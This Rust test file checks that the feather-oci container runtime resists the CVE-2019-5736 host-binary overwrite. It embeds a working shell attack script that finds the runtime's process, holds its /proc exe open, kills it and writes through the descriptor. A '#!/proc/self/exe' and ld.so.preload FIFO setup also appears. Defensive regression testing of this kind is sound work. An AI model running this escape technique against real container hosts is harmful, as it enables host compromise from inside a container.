//! The runtime's own binary is out of a container's reach (runc's CVE-2019-5736): `exec`
//! joins the container's pid namespace, so a process of the runtime's program runs inside it
//! — and a program of the container that starts `#!/proc/self/exe` runs the runtime's program
//! again, in the container, under the container's credentials. The container's root opens
//! that process's `/proc/PID/exe` (the host's file, not the container's), waits for it to end
//! and writes through the descriptor: the next `feather-oci` the host runs would be the
//! container's. The runtime runs from a read-only mount of its binary, so the write is refused.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use crate::support::{base_config, eventually, run, runtime_bin, Bundle, Runtime, Scratch};

/// The container's root: finds a process whose program is not the container's busybox (the
/// runtime's, entering), holds its program open in a background `sleep`, ends it, then tries
/// to append a marker to that program until it is no longer busy. `/tmp/result` says how it
/// went: `written`, `refused: …` (read-only) or `no program: …`.
const ATTACK: &str = r#"#!/bin/sh
holder=
tries=0
while [ -z "$holder" ]; do
  for d in /proc/[0-9]*; do
    t=$(readlink $d/exe 2>/dev/null) || continue
    case "$t" in ""|/bin/busybox) continue ;; esac
    sleep 1000 3<$d/exe 2>/dev/null &
    h=$!
    sleep 0.2
    if [ -e /proc/$h/fd/3 ]; then holder=$h; victim=${d#/proc/}; break; fi
    kill $h 2>/dev/null
  done
  tries=$((tries+1))
  if [ $tries -gt 600 ]; then echo "no program: nothing to hold" > /tmp/result; exec sleep 1000; fi
  sleep 0.05
done
kill -9 $victim
i=0
while :; do
  if echo FEATHER-ATTACK-MARKER 2>/tmp/err >>/proc/$holder/fd/3; then
    echo written > /tmp/result; break
  fi
  if grep -q "Read-only" /tmp/err; then echo "refused: $(cat /tmp/err)" > /tmp/result; break; fi
  i=$((i+1))
  if [ $i -gt 300 ]; then echo "gave up: $(cat /tmp/err)" > /tmp/result; break; fi
  sleep 0.1
done
kill $holder
exec sleep 1000
"#;

/// The dynamic loader and libraries `program` needs, copied into `rootfs` at their paths:
/// the runtime's program can then run again inside the container, as in an image of the
/// host's distribution.
fn copy_libraries(program: &Path, rootfs: &Path) {
    let outcome = run(Command::new("ldd").arg(program));
    assert_eq!(outcome.code, 0, "{outcome:?}");
    for word in outcome.stdout.split_whitespace() {
        let library = Path::new(word);
        if !library.is_absolute() || !library.is_file() {
            continue;
        }
        let inside = rootfs.join(library.strip_prefix("/").unwrap());
        fs::create_dir_all(inside.parent().unwrap()).unwrap();
        fs::copy(library, &inside).unwrap();
    }
}

#[test]
fn a_container_cannot_write_the_runtime_binary_that_enters_it() {
    let scratch = Scratch::new("host-binary");
    // The runtime under attack is a copy of the build's: the marker lands in it, if anywhere.
    let program = scratch.path("bin/feather-oci");
    fs::create_dir_all(program.parent().unwrap()).unwrap();
    fs::copy(runtime_bin(), &program).unwrap();
    let size = fs::metadata(&program).unwrap().len();
    let runtime = Runtime::of(&scratch, &program);

    let mut config = base_config(&["/bin/sh", "/attack.sh"]);
    // Without feather's confinement: the container's own Landlock domain would keep it from
    // the process (Landlock refuses ptrace access out of a domain), but it is an annotation
    // away (and absent where the kernel has no Landlock scoping); the binary must be safe on
    // its own.
    config["annotations"] = serde_json::json!({"org.feather.confine": "none"});
    runtime.allow_annotations(&["org.feather.confine=none"]);
    let bundle = Bundle::new(&scratch, "bundle", &config);
    let rootfs = bundle.dir.join("rootfs");
    copy_libraries(&program, &rootfs);
    fs::write(rootfs.join("attack.sh"), ATTACK).unwrap();
    // The program the engine will exec runs the runtime again; the loader then waits on a
    // FIFO (its preload list), so the process stays until the attacker ends it.
    fs::write(rootfs.join("bin/victim"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(rootfs.join("bin/victim"), fs::Permissions::from_mode(0o755)).unwrap();
    nix::unistd::mkfifo(
        &rootfs.join("etc/ld.so.preload"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();

    let id = format!("host-binary-{}", std::process::id());
    let created = runtime.create(&id, &bundle, &scratch.path("output"));
    assert_eq!(created.code, 0, "{created:?}");
    let started = runtime.run(&["start", &id]);
    assert_eq!(started.code, 0, "{started:?}");
    // As containerd's shim does: detached, so that no runtime is left running the binary.
    let exec = runtime.run(&["exec", "--detach", &id, "/bin/victim"]);
    assert_eq!(exec.code, 0, "{exec:?}");

    let result = rootfs.join("tmp/result");
    assert!(
        eventually(Duration::from_secs(90), || fs::read_to_string(&result)
            .is_ok_and(|r| r.ends_with('\n'))),
        "the attacker never finished"
    );
    let result = fs::read_to_string(&result).unwrap();
    assert_eq!(
        fs::metadata(&program).unwrap().len(),
        size,
        "the container wrote into the host's runtime binary ({result})"
    );
    assert!(
        result.starts_with("refused: ") && result.contains("Read-only"),
        "the attacker held the runtime's program and its write was refused by the mount: {result}"
    );
    assert_eq!(runtime.run(&["delete", "--force", &id]).code, 0);
}
